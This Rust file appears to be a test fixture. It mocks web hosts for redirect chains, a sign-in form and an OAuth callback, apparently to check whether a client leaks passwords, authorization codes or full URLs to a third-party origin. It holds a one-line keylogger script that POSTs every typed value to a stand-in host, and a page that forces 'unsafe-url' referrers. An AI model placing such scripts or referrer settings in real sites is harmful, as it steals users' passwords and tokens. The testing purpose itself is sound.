//! What hosts answer that lead to one another, as the address asks.

use super::host::Asked;

pub(crate) const APP: &str = "https://app.example";
pub(crate) const THIRD: &str = "https://third.example";
pub(crate) const CODE: &str = "authorization-code-4715";

/// What every host answers. The path says what comes: `/302/to/…` leads to what
/// follows, as does `/sign-in/…` once a form was sent.
pub(crate) fn answer(asked: &Asked) -> String {
    let mut words = asked.text.split(' ');
    let (method, path) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
    let redirect = |status: &str, to: &str| {
        reply(status, &format!("Location: {to}\r\nSet-Cookie: visit=v; Path=/\r\n"), "")
    };
    let way = path.split_once("/to/");
    match (method, path.split('/').nth(1).unwrap_or_default(), way) {
        ("GET", "sign-in", Some(_)) => reply(
            "200",
            "Content-Type: text/html\r\n",
            // Strangers are told the whole address that loads them.
            &format!(
                "<meta name=referrer content=unsafe-url><link rel=icon href='data:,'>\
                 <img src='{THIRD}/pixel'><script src='{THIRD}/script'></script>\
                 <iframe src='{THIRD}/frame'></iframe>\
                 <form method=post><input id=p name=p type=password><input id=o name=o>\
                 <button>Go</button></form>"
            ),
        ),
        (_, "sign-in", Some((head, to))) => {
            redirect(head.rsplit('/').next().unwrap_or_default(), to)
        }
        (_, status, Some((_, to))) => redirect(status, to),
        // A script that tells its maker what people type.
        ("GET", "script", None) => reply(
            "200",
            "Content-Type: text/javascript\r\n",
            &format!(
                "oninput = event => fetch('{THIRD}/typed', \
                 {{ method: 'POST', mode: 'no-cors', body: 'v=' + event.target.value }})"
            ),
        ),
        (_, "pixel" | "frame" | "typed", None) => reply("204", "", ""),
        _ => reply("302", &format!("Location: {APP}/callback?code={CODE}&state=s\r\n"), ""),
    }
}

fn reply(status: &str, headers: &str, body: &str) -> String {
    let length = body.len();
    format!(
        "HTTP/1.1 {status} Any\r\n{headers}Content-Length: {length}\r\nConnection: close\r\n\r\n{body}"
    )
}
